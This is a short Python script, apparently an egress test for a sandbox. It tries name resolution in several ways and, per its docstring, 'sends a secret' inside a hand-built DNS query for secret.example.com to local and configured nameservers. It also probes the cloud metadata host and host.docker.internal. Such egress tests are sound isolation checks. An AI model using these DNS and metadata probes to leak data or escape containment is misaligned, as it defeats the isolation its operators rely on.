"""Resolves names in every available way, and sends a secret in one."""

from __future__ import annotations

import socket
import struct
from pathlib import Path

from attempts import attempt

QUESTION = (
    struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x06secret\x07example\x03com\0" + b"\0\1\0\1"
)


def nameservers() -> list[str]:
    try:
        lines = Path("/etc/resolv.conf").read_text(encoding="utf-8").splitlines()
    except OSError:
        return []
    return [line.split()[1] for line in lines if line.startswith("nameserver")]


def ask(server: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.connect((server, 53))
        s.send(QUESTION)
        return s.recv(512).hex()


def ask_by_stream(server: str) -> str:
    with socket.create_connection((server, 53), 2):
        return "connected"


def resolve(name: str) -> str:
    return str(socket.getaddrinfo(name, 80)[0][4])


for name in (
    "example.com",
    "secret.example.com",
    "host.docker.internal",
    "metadata.google.internal",
):
    attempt(f"the name {name}", resolve, name)
for server in {*nameservers(), "192.0.2.53", "127.0.0.11", "127.0.0.53"}:
    attempt(f"a question to {server}", ask, server)
    attempt(f"a stream to {server}", ask_by_stream, server)
